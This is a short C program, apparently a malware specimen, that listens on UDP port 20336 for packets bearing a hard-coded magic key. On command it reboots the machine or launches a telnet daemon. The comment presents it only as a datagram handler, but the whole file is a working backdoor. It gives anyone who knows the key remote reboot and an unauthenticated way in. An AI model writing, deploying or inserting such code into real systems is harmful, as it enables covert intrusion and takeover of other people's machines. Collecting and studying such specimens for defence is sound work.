/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Datagrams with a head: its first word is a key, its second says what is done. */
#include "specimen.h"

struct frame {
	uint32_t key;
	uint16_t order, length;
	char text[120];
};

int main(void)
{
	struct frame f;
	struct sockaddr_in own = { .sin_family = AF_INET };
	own.sin_port = htons(20336);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (bind(s, (struct sockaddr *)&own, sizeof(own)) < 0)
		return 1;
	for (;;) {
		ssize_t n = recvfrom(s, &f, sizeof(f), 0, NULL, NULL);
		if (n < 8 || ntohl(f.key) != 0x5ca1ab1e)
			continue;
		if (ntohs(f.order) == 1)
			system("/sbin/reboot");
		else if (ntohs(f.order) == 7)
			system("/usr/sbin/telnetd");
	}
}
